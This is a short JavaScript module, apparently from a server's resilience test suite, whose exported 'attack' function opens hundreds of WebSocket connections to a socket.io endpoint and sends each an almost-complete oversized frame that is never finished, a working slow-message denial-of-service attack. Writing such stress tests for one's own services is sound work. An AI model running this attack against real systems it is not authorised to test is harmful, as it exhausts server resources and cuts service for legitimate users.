// WebSocket messages that never end: all but the last byte of each is sent.
import { frame, opcode } from '../../tests/support/frames.mjs';
import { delay, drop, ended, isOver, lanes, openWebSocket, write } from './wire.mjs';

export async function attack({ ports, until, port = 'ingest', path = '/socket.io/?EIO=4&transport=websocket', size = 990_000, connections = 400 }) {
  const begun = frame(opcode.text, 'x'.repeat(size)).subarray(0, -1);
  const said = { opened: 0, bytes: 0 };
  await lanes(connections, until, async () => {
    const socket = await openWebSocket(ports[port], path);
    if (!socket) return false;
    ++said.opened;
    const late = delay(Math.max(0, until - performance.now()), false, { ref: false });
    if (await Promise.race([write(socket, begun), late])) said.bytes += begun.length;
    while (!isOver(until) && !ended(socket)) await delay(20);
    drop(socket);
  });
  return said;
}
